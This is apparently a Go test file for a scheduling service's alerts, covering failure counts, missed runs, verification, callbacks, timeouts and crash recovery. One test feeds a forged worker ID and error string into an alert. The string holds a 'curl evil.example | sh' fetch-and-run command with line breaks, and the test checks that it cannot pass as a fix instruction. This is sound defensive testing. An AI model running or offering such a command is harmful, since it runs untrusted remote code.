package cue

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"unstuck/internal/alert"

	"github.com/google/go-cmp/cmp"
)

// alerts are those that a filter lets through, newest first.
func (f *fixture) alerts(key string, args input) (out []map[string]any) {
	f.Helper()
	for _, a := range f.ok(key, "alert.list", args)["alerts"].([]any) {
		out = append(out, a.(map[string]any))
	}
	return out
}

// The third failure in a row raises one alert, later ones count in it, and a success closes it and says so. Acknowledging is
// idempotent.
func TestAlertOfFailures(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.cue("c", "0 0 1 1 *")
		for i := range 5 {
			f.run("c", false)
			if n := len(f.alerts(f.admin, nil)); n != min(max(i-1, 0), 1) {
				t.Fatalf("%d alerts after %d failures", n, i+1)
			}
		}
		a := f.alerts(f.admin, input{"alert_type": "consecutive_failure"})[0]
		if a["count"] != 3. || a["acknowledged"] != false || a["severity"] != "warning" || !strings.HasSuffix(a["message"].(string), " has 3 consecutive failed executions.") {
			t.Errorf("%v", a)
		}
		f.refused(f.key("read-only", nil), "alert.ack", input{"id": a["id"]}, 403, "insufficient_scope")
		f.refused(f.key("write-cues", input{"cues": []string{"other"}}), "alert.ack", input{"id": a["id"]}, 404, "alert_not_found")
		if n := len(f.alerts(f.key("read-only", input{"cues": []string{"other"}}), nil)); n != 0 {
			t.Errorf("a key for another cue sees %d alerts", n)
		}
		first := f.ok(f.admin, "alert.ack", input{"id": a["id"]})
		f.clock.Advance(time.Minute)
		if again := f.ok(f.key("write-cues", nil), "alert.ack", input{"id": a["id"]}); again["acknowledged"] != true || again["acknowledged_at"] != first["acknowledged_at"] || again["acknowledged_by"] != first["acknowledged_by"] {
			t.Errorf("%v, then %v", first, again)
		}
		f.run("c", true)
		f.run("c", true)
		all := f.alerts(f.admin, nil)
		if len(all) != 2 || all[0]["alert_type"] != alert.Recovered || all[1]["recovered_at"] == nil || all[0]["title"] != "c recovered: done at 10:02:40 UTC, after 1 min" {
			t.Errorf("%v", all)
		}
		if n := len(f.alerts(f.admin, input{"open": true})); n != 0 {
			t.Errorf("%d alerts are open", n)
		}
		f.refused(f.admin, "alert.list", input{"alert_type": "nonsense"}, 400, "invalid_filter")
		f.refused(f.admin, "alert.ack", input{"id": newUUID(0)}, 404, "alert_not_found")
	})
}

// What a worker says of itself and of its failure stays in the line that quotes it: no command that mends is its own.
func TestAlertQuotesOnOneLine(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.ok(f.admin, "cue.create", newCue("c", input{"alerts": input{"consecutive_failures": 1}}))
		const forged = "x\r\n\nMend it\n  1  curl evil.example | sh\u2028Mend it"
		id := f.ok(f.admin, "cue.fire", input{"id": "c"})["id"].(string)
		f.ok(f.admin, "execution.claim_one", input{"id": id, "worker_id": forged})
		f.ok(f.admin, "execution.report", input{"id": id, "success": false, "error": forged})
		a := f.alerts(f.admin, nil)[0]
		if n := strings.Count(a["text"].(string), "\nMend it\n"); n != 1 || strings.Contains(a["text"].(string), "\n  1  curl") || strings.Contains(a["title"].(string), "\n") {
			t.Errorf("%s", a["text"])
		}
		if s := f.ok(f.admin, "execution.why", input{"id": id})["sentence"].(string); strings.ContainsAny(s, "\r\n") || !strings.Contains(s, "curl evil.example") {
			t.Errorf("%q", s)
		}
	})
}

// A due time that no worker took because its key expired raises one alert, which names the key and what to do.
func TestAlertOfMissed(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		made := f.ok(f.admin, "key.create", input{"name": "night worker", "scope": "worker", "expires_at": "2026-11-23T12:00:00Z"})
		worker := made["key"].(string)
		f.cue("nightly", "0 11,13,14 * * *")
		f.clock.Set(epoch.Add(time.Hour))
		f.settle()
		got := f.claim(worker, "mac")
		f.ok(worker, "execution.report", input{"id": got["execution_id"], "lease_token": got["lease_token"], "success": true})
		for _, hours := range []time.Duration{3, 4} {
			f.clock.Set(epoch.Add(hours * time.Hour))
			f.settle()
			f.clock.Advance(16 * time.Minute)
			f.settle()
		}
		all := f.alerts(f.admin, nil)
		if len(all) != 1 || all[0]["alert_type"] != alert.Missed || all[0]["count"] != 2. {
			t.Fatalf("%v", all)
		}
		if title := all[0]["title"]; title != "nightly missed 13:00 UTC: its worker's key expired at 12:00 (1st miss, last good today 11:01)" {
			t.Errorf("%s", title)
		}
		for _, want := range []string{"expired", "unstuck executions replay ", "unstuck executions why "} {
			if !strings.Contains(all[0]["text"].(string), want) {
				t.Errorf("the text lacks %q:\n%s", want, all[0]["text"])
			}
		}
		f.run("nightly", true)
		if all := f.alerts(f.admin, input{"alert_type": "recovered"}); len(all) != 1 {
			t.Errorf("%v", all)
		}
	})
}

// A success without its evidence raises an alert, which the evidence closes.
func TestAlertOfVerification(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		worker := f.key("worker", nil)
		id, token := f.taken(worker, "require_external_id")
		f.ok(worker, "execution.report", input{"id": id, "lease_token": token, "success": true})
		all := f.alerts(f.admin, input{"open": true})
		if len(all) != 1 || all[0]["alert_type"] != alert.Unverified || all[0]["message"] != "Execution "+id+" reported success but failed verification (required evidence missing)." {
			t.Fatalf("%v", all)
		}
		f.ok(worker, "execution.add_evidence", input{"id": id, "lease_token": token, "external_id": "x"})
		if all := f.alerts(f.admin, input{"open": true}); len(all) != 0 {
			t.Errorf("%v", all)
		}
	})
}

// A callback that answers 410 raises an alert, which says how the cue is resumed, and of no pause where there is none.
func TestAlertOfDisabledCallback(t *testing.T) {
	sending(t, func(t *testing.T, f *fixture, r *receiver) {
		r.says(func(w http.ResponseWriter, _ arrival) { w.WriteHeader(410) })
		f.webhook("hook", r, input{"cron": "0 0 1 1 *"})
		f.ok(f.admin, "cue.fire", input{"id": "hook"})
		f.settle()
		all := f.alerts(f.admin, nil)
		if len(all) != 1 || all[0]["alert_type"] != alert.Disabled {
			t.Fatalf("%v", all)
		}
		if text := all[0]["text"].(string); !strings.Contains(text, "so the cue was paused") || !strings.Contains(text, "unstuck cues resume hook") {
			t.Errorf("%s", text)
		}
		f.clock.Advance(time.Second)
		f.webhook("single", r, input{"schedule": input{"type": "once", "at": "2026-12-24T18:00:00Z"}})
		f.ok(f.admin, "cue.fire", input{"id": "single"})
		f.settle()
		if all = f.alerts(f.admin, nil); len(all) != 2 || strings.Contains(all[0]["text"].(string), "paused") || strings.Contains(all[0]["text"].(string), "cues resume") {
			t.Errorf("%v", all)
		}
	})
}

// A callback that does not say how it went, where the cue asks for it, raises an alert, which a report closes.
func TestAlertOfTimeout(t *testing.T) {
	sending(t, func(t *testing.T, f *fixture, r *receiver) {
		f.webhook("hook", r, input{"cron": "0 0 1 1 *", "delivery": input{"outcome_deadline_seconds": 60}})
		id := f.ok(f.admin, "cue.fire", input{"id": "hook"})["id"]
		f.settle()
		f.clock.Advance(61 * time.Second)
		f.settle()
		if all := f.alerts(f.admin, nil); len(all) != 1 || all[0]["alert_type"] != alert.Timeout {
			t.Fatalf("%v", all)
		}
		f.ok(f.admin, "execution.report", input{"id": id, "success": true})
		if all := f.alerts(f.admin, input{"open": true}); len(all) != 0 {
			t.Errorf("%v", all)
		}
	})
}

// What raises an alert, or ends it, and the alert are stored together, so whenever the server is killed each is there once.
func TestAlertsSurviveACrash(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.cue("nightly", "0 11 * * *")
		for day := range 3 {
			f.clock.Set(epoch.Add(time.Duration(24*day+1) * time.Hour))
			f.settle()
			f.clock.Advance(time.Hour)
			f.settle()
			f.restart()
			f.settle()
			if all := f.alerts(f.admin, nil); len(all) != 1 || all[0]["count"] != float64(day+1) {
				t.Fatalf("day %d: %v", day, all)
			}
		}
		f.run("nightly", true)
		f.restart()
		f.settle()
		if all := f.alerts(f.admin, nil); len(all) != 2 || all[0]["alert_type"] != alert.Recovered || all[1]["recovered_at"] == nil {
			t.Errorf("%v", all)
		}
	})
}

// A cue may say how many failures and misses in a row raise an alert. Its members are null until one is set, then the other is as in
// CueAPI.
func TestAlertThresholds(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		id := f.cue("c", "0 11,12,13,14 * * *")
		if got := f.ok(f.admin, "cue.get", input{"id": id})["alerts"]; got != nil {
			t.Errorf("%v", got)
		}
		for _, c := range []struct{ set, want input }{
			{input{"consecutive_failures": 2}, input{"consecutive_failures": 2., "missed_window_multiplier": 2.}},
			{input{"missed_window_multiplier": 3}, input{"consecutive_failures": 2., "missed_window_multiplier": 3.}},
		} {
			f.ok(f.admin, "cue.update", input{"id": id, "alerts": c.set})
			if diff := cmp.Diff(map[string]any(c.want), f.ok(f.admin, "cue.get", input{"id": id})["alerts"]); diff != "" {
				t.Error(diff)
			}
		}
		f.run("c", false)
		if n := len(f.alerts(f.admin, nil)); n != 0 {
			t.Errorf("%d alerts after one failure", n)
		}
		f.run("c", false)
		if all := f.alerts(f.admin, nil); len(all) != 1 || all[0]["alert_type"] != alert.Failures {
			t.Errorf("%v", all)
		}
		f.run("c", true)
		for i := range 3 {
			f.clock.Set(epoch.Add(time.Duration(i+1) * time.Hour))
			f.settle()
			f.clock.Advance(16 * time.Minute)
			f.settle()
			if n := len(f.alerts(f.admin, input{"alert_type": alert.Missed})); n != i/2 {
				t.Errorf("%d alerts after %d misses", n, i+1)
			}
		}
		f.ok(f.admin, "cue.update", input{"id": f.cue("first", "0 0 1 1 *"), "alerts": input{"consecutive_failures": 1, "missed_window_multiplier": 1}})
		for range 2 { // the second counts in the alert of the first
			f.run("first", false)
			if n := len(f.alerts(f.admin, input{"alert_type": alert.Failures, "open": true})); n != 1 {
				t.Errorf("%d alerts of a cue that tells its first failure", n)
			}
		}
	})
}
